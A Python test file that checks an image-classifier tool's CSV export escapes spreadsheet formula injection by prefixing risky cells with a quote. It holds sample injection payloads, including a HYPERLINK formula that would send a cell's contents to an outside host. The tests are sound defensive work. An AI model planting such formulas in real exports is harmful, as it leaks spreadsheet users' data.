"""The CSV export against formula injection (issue 25, item 16): a text cell a spreadsheet would run as a formula
(first character ``=``, ``+``, ``-``, ``@``, a tab or a carriage return, as OWASP lists them) is written with a
single quote before it, and quoted; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from imgq.contract import Label, error_record, ok_record
from imgq.jobs import submit as submission
from producer.exports.export import write_csv
from tests import imagegen

RISKY = ("=1+2", "+SUM(A1)", "-rf.jpg", "@cmd", "\tx", "\rx")


def exported(records, k: int = 2, groups=None) -> tuple[str, list[dict]]:
    out = io.StringIO()
    write_csv(records, out, k, groups)
    return out.getvalue(), list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize("risky", RISKY, ids=repr)
def test_text_cells_that_a_spreadsheet_would_run_are_escaped(risky):
    provenance = {"model": risky, "weights": risky, "precision": "fp32", "worker": risky, "decode_ms": 1.5,
                  "inference_ms": 2.25}
    head = {"name": risky, "top_k": [{"label": risky, "score": 0.75}]}
    records = [ok_record(risky, 0, risky, [Label("", risky, 0.5, 0), Label("", "plain", 0.25, 1)], head=head,
                         **provenance),
               error_record("j1", 1, risky, "corrupt", risky, **provenance)]
    text, (ok, error) = exported(records)
    escaped = "'" + risky
    for column in ("job", "path", "label_1", "model", "weights", "worker", "head", "head_label"):
        assert ok[column] == escaped, column
    assert (error["path"], error["error_message"]) == (escaped, escaped)
    assert text.count('"' + escaped + '"') == 8 + 5  # quoted where written, besides being prefixed
    assert (ok["label_2"], ok["score_1"], ok["score_2"], ok["image"], ok["index_1"], ok["head_score"],
            ok["decode_ms"]) == ("plain", "0.5", "0.25", "0", "0", "0.75", "1.5")  # numbers as they were
    assert not [line for line in text.splitlines() if line.startswith(("=", "+", "-", "@"))]


def test_safe_cells_and_numbers_are_written_as_before():
    record = ok_record("j1", 3, "/photos/a,b.jpg", [Label("n01440764", "tench", 0.5)], model="resnet50",
                       weights="imagenet", precision="fp32", worker="w@h", decode_ms=1.5, inference_ms=2.25)
    text, (row,) = exported([record], k=1)
    assert text.splitlines()[1] == ('j1,3,"/photos/a,b.jpg",ok,tench,0.5,n01440764,,,resnet50,imagenet,fp32,w@h,'
                                    '1.5,2.25,0,,,')


def test_imgq_results_csv_escapes_a_models_labels(run, settings, store, tmp_path):
    """A user's model whose labels.txt names a class "=HYPERLINK(...)": `imgq results --format csv` escapes it."""
    folder = tmp_path / "pictures"
    folder.mkdir()
    paths = [str(imagegen.save(folder / f"{i}.png", size=(16, 16), seed=i)) for i in range(2)]
    job = submission.submit(paths, settings=settings, store=store).job
    label = '=HYPERLINK("http://example.com/?"&A1,"click")'
    store.record_results(job, [ok_record(job, i, p, [Label("", label, 0.5, 0), Label("", "-1", 0.25, 1)],
                                         model="links@sha256:0123456789ab", weights="imagenet")
                               for i, p in enumerate(paths)])
    result = run("results", job, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert [(r["label_1"], r["label_2"], r["score_1"]) for r in rows] == [("'" + label, "'-1", "0.5")] * 2
    assert '"\'=HYPERLINK(""http://example.com/?""&A1,""click"")"' in result.stdout

